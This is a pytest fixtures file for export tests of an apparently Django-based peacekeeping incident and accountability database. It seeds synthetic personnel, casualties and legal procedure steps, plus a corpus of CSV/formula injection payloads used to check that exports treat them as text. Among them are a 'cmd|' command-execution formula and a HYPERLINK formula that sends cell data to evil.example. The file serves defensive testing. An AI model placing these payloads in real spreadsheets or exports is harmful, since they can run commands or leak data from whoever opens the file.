"""Fixtures of the export tests: the personas' world with names, steps and a formula
injection corpus in it, a throwaway media folder, readers of each format."""

import csv
import io
import json
import shutil
import subprocess
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

import pytest
from django.contrib.auth.models import AnonymousUser

from accountability.choices import InvestigatingAuthority, ProcedureStepKind
from accountability.services import investigation_open, procedure_record_step
from incidents.choices import Outcome
from incidents.models import Casualty, Incident
from missions.models import Personnel
from tests.conftest import IN_CI

K = ProcedureStepKind
EXPORTERS = ("admin", "legal_a", "analyst_a", "analyst_all")
NON_EXPORTERS = ("staff_a", "staff_b", "liaison_a", "liaison_fr", "liaison_other")

# OWASP "CSV injection" payloads, and a few more; each must come out as text.
INJECTION_CORPUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+1",
    "@SUM(1+1)",
    "+33 6 12 34 56 78",
    "-",
]


@dataclass
class ExportWorld:
    """tests.personas' world, plus a named peacekeeper killed in mission A, an
    investigation and procedure steps on case A, and the injection corpus in text fields."""

    base: object
    person: Personnel
    casualty: Casualty
    injection_incident: Incident

    def __getattr__(self, name):
        return getattr(self.base, name)


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def export_world(world, media_root) -> ExportWorld:
    admin = world.users["admin"]
    person = Personnel.objects.create(
        service_number="BGD-1971-0042",
        contributing_country=world.host_a,
        given_name="Rahim",
        family_name="CHOWDHURY",
        category="military_contingent",
    )
    casualty = Casualty.objects.create(
        incident=world.incident_a,
        personnel=person,
        category="military_contingent",
        nationality=person.contributing_country,
        outcome=Outcome.KILLED,
    )
    injection = Incident.objects.create(
        reference="MINUSCA-INJ-0001",
        mission=world.mission_a,
        country=world.host_a,
        occurred_at=datetime.now(UTC) - timedelta(days=40),
        incident_type="accident",
        place=INJECTION_CORPUS[0],
        admin_area=INJECTION_CORPUS[2],
        latitude="-4.36123",
        longitude="-18.55000",
        narrative="\n".join(INJECTION_CORPUS),
        sources=INJECTION_CORPUS[3],
    )
    for i, payload in enumerate(INJECTION_CORPUS):
        Casualty.objects.create(
            incident=injection,
            category="military_contingent",
            outcome=Outcome.INJURED,
            un_casualty_id=f"INJ-{i:02d}",
            un_personnel_type=payload[:40],
        )
    case = world.case_a
    investigation_open(
        actor=admin,
        case=case,
        authority=InvestigatingAuthority.PROSECUTOR,
        opened_on=case.attack_date + timedelta(days=5),
        source="Réquisitoire introductif",
        authority_name="Tribunal de grande instance de Bangui",
    )
    procedure_record_step(
        actor=admin,
        suspect=world.suspect_a,
        kind=K.ARRESTED,
        occurred_on=date.today() - timedelta(days=100),
        source="Procès-verbal d'arrestation",
        legal_term="mandat de dépôt",
        note="=1+1 in a note",
    )
    for user in world.users.values():
        if user is not None:
            user.__dict__.pop("_peacekeeping_scope", None)
    case.refresh_from_db()
    return ExportWorld(base=world, person=person, casualty=casualty, injection_incident=injection)


def client_for(client, world, persona: str):
    user = world.users[persona]
    if user is None:
        client.logout()
    else:
        client.force_login(user)
    return client


def read_csv(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def read_json(content: bytes) -> list[dict]:
    return json.loads(content)


def read_xlsx(content: bytes, sheet: str | None = None) -> list[dict]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content), read_only=True)
    rows = list((workbook[sheet] if sheet else workbook.worksheets[0]).iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


READERS = {"csv": read_csv, "json": read_json, "xlsx": read_xlsx}


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def pdftotext():
    binary = shutil.which("pdftotext")
    if binary is None:
        if IN_CI:
            pytest.fail("CI needs pdftotext (Debian poppler-utils)")
        pytest.skip("needs pdftotext (Debian poppler-utils)")

    def read(content: bytes) -> str:
        result = subprocess.run(
            [binary, "-raw", "-enc", "UTF-8", "-", "-"],
            input=content,
            capture_output=True,
            check=True,
            timeout=60,
        )
        return result.stdout.decode("utf-8")

    return read


@pytest.fixture
def eager():
    """Tasks run in-process, as without REDIS_URL, even when the suite has a broker."""
    from peacekeeping.celery import app

    saved = app.conf.task_always_eager, app.conf.task_eager_propagates
    app.conf.task_always_eager = app.conf.task_eager_propagates = True
    yield app
    app.conf.task_always_eager, app.conf.task_eager_propagates = saved


ANONYMOUS = AnonymousUser()
